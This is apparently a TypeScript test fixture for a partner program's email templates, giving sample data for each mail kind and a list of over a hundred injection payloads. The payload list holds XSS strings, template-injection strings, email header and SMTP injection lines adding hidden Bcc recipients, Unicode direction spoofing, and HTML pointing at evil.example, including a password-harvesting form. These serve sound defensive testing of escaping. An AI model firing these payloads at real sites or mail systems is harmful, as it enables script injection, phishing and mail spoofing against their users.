import type { Sender, Told } from '../../server/rules/mail/kinds.ts'

export const acme: Sender = {
  name: 'Acme',
  siteUrl: 'https://acme.example',
  timeZone: 'Europe/Madrid',
  language: 'en',
  logoUrl: null,
  accent: '#7c3aed',
  replyTo: 'partners@acme.example',
}

const eur = (amount: number) => ({ amount, currency: 'EUR' })

/** One of each mail, with everything in it that it can hold. */
export const everyMail: Told[] = [
  { kind: 'application_received', facts: {} },
  { kind: 'application_known', facts: {} },
  { kind: 'application_approved', facts: { code: 'JANE-7KX' } },
  { kind: 'application_rejected', facts: { reason: 'Your audience is small as yet. Come back with a thousand readers.' } },
  { kind: 'portal_link', facts: { sealed: 'v1.x' } },
  { kind: 'first_commission', facts: { ...eur(11_960), availableAt: '2026-04-09T12:00:00.000Z' } },
  { kind: 'commission_reversed', facts: { ...eur(5_980), remaining: 5_980, reason: 'refund' } },
  { kind: 'commission_restored', facts: { ...eur(5_980), remaining: 11_960, reason: 'dispute_won' } },
  { kind: 'payout_sent', facts: { ...eur(123_456), method: 'bank_transfer', reference: 'ACME 2026-03' } },
  { kind: 'payout_failed', facts: { ...eur(123_456), reason: 'The account was closed' } },
  {
    kind: 'payout_details_changed',
    facts: {
      at: '2026-03-10T12:00:00.000Z',
      email: 'j•••@example.com',
      method: 'paypal',
      payoutEmail: 'p•••@example.com',
      account: '•••NpRs',
    },
  },
  {
    kind: 'monthly_statement',
    facts: {
      period: '2026-02',
      earned: [eur(45_000), { amount: 5_000, currency: 'JPY' }],
      paid: [eur(30_000)],
      clicks: 12_345,
      signups: 67,
      sales: 21,
    },
  },
  {
    kind: 'endpoint_disabled',
    facts: { url: 'https://hooks.acme.example/partners/mislata', why: 'failing', at: '2026-03-10T12:00:00.000Z', own: false },
  },
]

/** Every text of a language by the way to it. */
export function textsIn(value: unknown, path = ''): Map<string, string> {
  if (typeof value === 'string') return new Map([[path, value]])
  const entries = Object.entries(value as object).flatMap(([name, each]) => [...textsIn(each, `${path}/${name}`)])
  return new Map(entries)
}

const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc=x>',
  '<a href=javascript:alert(1)>x</a>',
]
const breakers = ['', '"', "'", '">', "'>", '</p>', '</bdi>', '</title>', '</style>', '-->', ']]>', '<!--', '&lt;']
const others = [
  '{{constructor.constructor("alert(1)")()}}',
  '{program}',
  '{reason}',
  '$' + '{alert(1)}',
  '<%= 1 %>',
  '<![endif]-->',
  '<!--[if mso]>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<style>*{display:none}</style>',
  '<form action=//evil.example><input name=password>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'x\r\nBcc: everybody@example.com',
  'x\nSubject: Another\n\nbody',
  'x\r\n\r\n<html>',
  'x\r\n.\r\nMAIL FROM:<evil@example.com>',
  '=?utf-8?Q?=0D=0ABcc:_evil@example.com?=',
  '=?utf-8?B?DQpCY2M6IGV2aWxAZXhhbXBsZS5jb20=?=',
  '"Acme" <evil@example.com>',
  'evil@example.com, other@example.com',
  'Acme\u0000',
  'Acme\u0085Bcc: evil@example.com',
  'Acme\u2028Bcc: evil@example.com',
  'Acme\u202egnp.exe',
  '\u2066Acme',
  '&#60;script&#62;',
  '&amp;lt;script&amp;gt;',
  '＜script＞alert(1)＜/script＞',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003e',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<x onclick=alert(1)>x',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
]

/** More than a hundred attempts to be more than text. */
export const payloads = [...breakers.flatMap(before => scripts.map(script => before + script)), ...others]
